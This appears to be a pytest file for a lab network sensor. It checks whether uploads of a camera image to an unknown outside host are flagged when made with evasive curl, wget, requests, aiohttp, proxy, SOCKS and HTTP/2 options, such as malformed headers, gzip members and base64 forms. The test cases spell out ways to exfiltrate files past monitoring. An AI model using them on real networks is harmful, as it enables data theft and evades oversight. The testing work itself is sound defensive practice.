# SPDX-License-Identifier: Apache-2.0
"""What clients that nobody changed can do by their own options to hide a file that they move by HTTP. Each case is done twice, with a lane's picture
and with a file of noise, to a stranger of its own, under one sensor."""
import os
import subprocess

import lab as net
import material
import packets
import pytest
from web import nginx, open_folders

PLAIN, TAKES, PROXIED, PROXY, TWO, SOCKS = 8090, 8091, 8092, 8093, 8094, 8095


def python(code, *words):
    return ['/usr/bin/python3', '-c', code, *words]


def curl(*words):
    return ['curl', '-sS', '--fail', '-m', '20', *words]


REQUESTS = '''
import requests, sys
path, url, how = sys.argv[1:]
f = open(path, 'rb')
if how == 'chunks':
    r = requests.put(url, data=iter(lambda: f.read(3000), b''))
elif how == 'form':
    r = requests.post(url, files={'x': ('notes', f)}, headers={'Accept-Encoding': 'identity'})
r.raise_for_status()
'''
AIOHTTP = '''
import aiohttp, asyncio, sys
path, url, how = sys.argv[1:]
async def main():
    data = open(path, 'rb').read()
    async with aiohttp.ClientSession() as s:
        if how == 'websocket':
            async with s.ws_connect(url) as w:
                await w.send_bytes(data)
                await asyncio.sleep(0.5)
        else:
            async with s.put(url, data=data, compress=how) as r:
                r.raise_for_status()
asyncio.run(main())
'''


def taken(to, path='/in/a1b2'):
    return f'http://{to}:{TAKES}{path}'


def stored(to, path, port=PLAIN):
    return f'http://{to}:{port}/{os.path.basename(path)}'


def body(*words):
    """By curl to a receiver that takes everything, with these words."""
    return lambda path, to: curl(*words, '--data-binary', f'@{path}', '-H', 'Content-Type:', taken(to))


def compressed(path, times=1):
    """Made by gzip beside it; its path."""
    with open(path, 'rb') as f:
        data = f.read()
    pieces = [data[i * len(data) // times:(i + 1) * len(data) // times] for i in range(times)]
    with open(path + '.bin', 'wb') as f:
        for piece in pieces:
            f.write(subprocess.run(['gzip', '-n'], input=piece, check=True, capture_output=True).stdout)
    return path + '.bin'


UPLOADS = {
    'curl -0': lambda path, to: curl('-0', '-T', path, stored(to, path)),
    'curl -X GET with a body': body('-X', 'GET'),
    'curl -X with a method of 300 letters': body('-X', 'A' * 300),
    'curl -X with a method that is no token': body('-X', 'P@T(x)/'),
    'curl without a length': body('-X', 'PUT', '-H', 'Content-Length:'),
    'curl with a length of 0': body('-X', 'PUT', '-H', 'Content-Length: 0'),
    'curl with a length of 1000': body('-X', 'PUT', '-H', 'Content-Length: 1000'),
    'curl with a transfer coding that is none': body('-H', 'Transfer-Encoding: foo'),
    'curl with chunks that are announced in quotes': lambda path, to: curl('-H', 'Transfer-Encoding: "chunked"', '-T', path, taken(to)),
    'curl with a content coding that is none': body('-H', 'Content-Encoding: gzip'),
    'curl with 100 KB of header': lambda path, to: curl(
        *[w for i in range(100) for w in ('-H', f'X-{i}: ' + 'a' * 1000)], '-T', path, stored(to, path)),
    'curl -F of another type': lambda path, to: curl('-F', f'x=@{path};filename=notes', '-H', 'Content-Type: text/plain', taken(to)),
    'curl -F without a file name': lambda path, to: curl('-F', f'x=<{path}', taken(to)),
    'curl -F in base64': lambda path, to: curl('-F', f'x=@{path};filename=notes;encoder=base64', taken(to)),
    'curl behind the line of a proxy': lambda path, to: curl('--haproxy-protocol', '-T', path, stored(to, path, PROXIED)),
    'curl through CONNECT of tinyproxy': lambda path, to: curl('-p', '-x', f'http://{to}:{PROXY}', '-T', path, stored(net.UNKNOWN, path)),
    'curl through tinyproxy': lambda path, to: curl('-x', f'http://{to}:{PROXY}', '-T', path, stored(net.UNKNOWN, path)),
    'gzip': lambda path, to: curl('-T', compressed(path), taken(to)),
    'gzip in three members': lambda path, to: curl('-T', compressed(path, 3), taken(to)),
    'wget --body-file': lambda path, to: ['wget', '-q', '-O', '/dev/null', '--method=PUT', f'--body-file={path}', stored(to, path)],
    'wget --post-file': lambda path, to: ['wget', '-q', '-O', '/dev/null', f'--post-file={path}', taken(to)],
    'requests in chunks': lambda path, to: python(REQUESTS, path, stored(to, path), 'chunks'),
    'requests in a form': lambda path, to: python(REQUESTS, path, taken(to), 'form'),
    'aiohttp deflated': lambda path, to: python(AIOHTTP, path, stored(to, path), 'deflate'),
    'aiohttp in gzip': lambda path, to: python(AIOHTTP, path, stored(to, path), 'gzip'),
}


@pytest.fixture(scope='module')
def servers(lab, tmp_path_factory):
    """Gives the folder of the store in the lane."""
    folder = tmp_path_factory.mktemp('servers')
    (folder / 'lane').mkdir()
    (folder / 'outside').mkdir()
    open_folders(folder)
    conf = folder / 'tinyproxy.conf'
    conf.write_text(f'Port {PROXY}\nTimeout 20\nMaxClients 20\n')
    all_of_them = [nginx(lab, 'outside', folder / 'outside', [PLAIN, f'{PROXIED} proxy_protocol', f'{TWO} http2']),
                   nginx(lab, 'lane', folder / 'lane', [PLAIN], 'gzip on; gzip_types *; gzip_min_length 100;'),
                   lab.start('outside', '/usr/bin/python3', f'{net.HERE}/taker.py', str(TAKES)),
                   lab.start('outside', 'tinyproxy', '-d', '-c', str(conf), stdout=subprocess.DEVNULL)]
    for port in TAKES, PROXY:
        lab.wait_port('outside', '', port)
    yield folder / 'lane' / 'root'
    for server in all_of_them:
        lab.stop(server)


@pytest.fixture(params=[False, True], ids=['picture', 'noise'])
def file(picture, request):
    """(path, bytes, a stranger's address, whether it is an honest one)."""
    path, data, stranger = picture
    if request.param:
        path, data = os.path.join(os.path.dirname(path), 'notes.bin'), packets.noise(stranger, 20000)
        with open(path, 'wb') as f:
            f.write(data)
    return path, data, stranger, request.param


def judge(watch, data, stranger, honest, whole=True):
    """By alerts to this stranger, and by a transfer with the file's digest."""
    t = watch.wait_transfer(material.sha256(data))
    assert t['destination']['ip'] == stranger and t['gantry']['transfer']['complete'] == whole
    if honest:
        assert not [a for a in watch.alerts() if a['destination']['ip'] == stranger]
    else:
        assert {'image', 'vehicle-image'} & set(t['gantry']['classes'])
        watch.wait_alert(lambda a: a['destination']['ip'] == stranger and {'image', 'vehicle-image'} & set(a['gantry'].get('classes', [])))


@pytest.mark.parametrize('words', UPLOADS.values(), ids=UPLOADS)
def test_an_upload_by(lab, servers, watch, file, words):
    path, data, stranger, honest = file
    lab.run('lane', *words(path, stranger))
    judge(watch, data, stranger, honest)


@pytest.fixture(scope='module')
def socks(lab, servers, sshd):
    """ssh is the server of SOCKS, outside."""
    words, port, _ = sshd
    process = lab.start('outside', 'ssh', *words, '-N', '-g', '-D', f'0.0.0.0:{SOCKS}', '-p', str(port), 'root@127.0.0.1')
    lab.wait_port('outside', '', SOCKS)
    yield
    lab.stop(process)


@pytest.mark.parametrize('kind', ['socks4', 'socks4a', 'socks5', 'socks5-hostname'])
def test_an_upload_through_socks(lab, socks, watch, file, kind):
    path, data, stranger, honest = file
    lab.run('lane', *curl(f'--{kind}', f'{stranger}:{SOCKS}', '-T', path, stored(net.UNKNOWN, path)))
    judge(watch, data, stranger, honest)


def test_an_upload_by_http_2_in_clear_is_a_picture_between_frames(lab, servers, watch, picture, tmp_path):
    """Its digest is that of the stream. A file of noise goes ahead and is nothing."""
    path, _, stranger = picture
    (tmp_path / 'notes.bin').write_bytes(packets.noise('http 2', 60000))
    lab.run('lane', *curl('--http2-prior-knowledge', '-T', str(tmp_path / 'notes.bin'), stored(net.UNKNOWN, 'notes.bin', TWO)))
    lab.run('lane', *curl('--http2-prior-knowledge', '-T', path, stored(stranger, path, TWO)))
    watch.wait_alert(lambda a: a['destination']['ip'] == stranger and 'vehicle-image' in a['gantry'].get('classes', []))
    assert not [a for a in watch.alerts() if a['destination']['ip'] == net.UNKNOWN]


# --- what a partner fetches

DOWNLOADS = {  # words, and from which byte on
    'wget -c': (lambda url: ['sh', '-c', f'printf xx > $(basename {url}); wget -q -c {url}'], 2),
    'curl of parts': (lambda url: ['curl', '-sS', '--fail', '-r', '0-99,100-', '-o', '/dev/null', url], 0),
    'curl --compressed': (lambda url: ['curl', '-sS', '--fail', '--compressed', '-o', '/dev/null', url], 0),
    'aria2 by four connections': (lambda url: ['aria2c', '-q', '-x4', '-s4', '-k1M', url], 0),
}


@pytest.mark.parametrize('words, first', DOWNLOADS.values(), ids=DOWNLOADS)
def test_a_download_by(lab, servers, watch, file, tmp_path, words, first):
    """From the store in the lane, under a name that says nothing."""
    _, data, stranger, honest = file
    if words('')[0] == 'aria2c':  # its parts have a megabyte or more
        data = packets.dull('big', 3 << 20) if honest else material.lane_image(5, 6400, 4800) + packets.noise('behind', 2 << 20)
    (servers / f'{stranger}.bin').write_bytes(data)
    # Who binds to no address of its own comes as this stranger
    lab.ip('outside', 'route', 'add', f'{net.LANE}/32', 'dev', 'eth0', 'src', stranger)
    try:
        lab.run('outside', *words(f'http://{net.LANE}:{PLAIN}/{stranger}.bin'), cwd=tmp_path)
    finally:
        lab.ip('outside', 'route', 'del', f'{net.LANE}/32', 'dev', 'eth0')
    judge(watch, data[first:], stranger, honest, whole=first == 0)
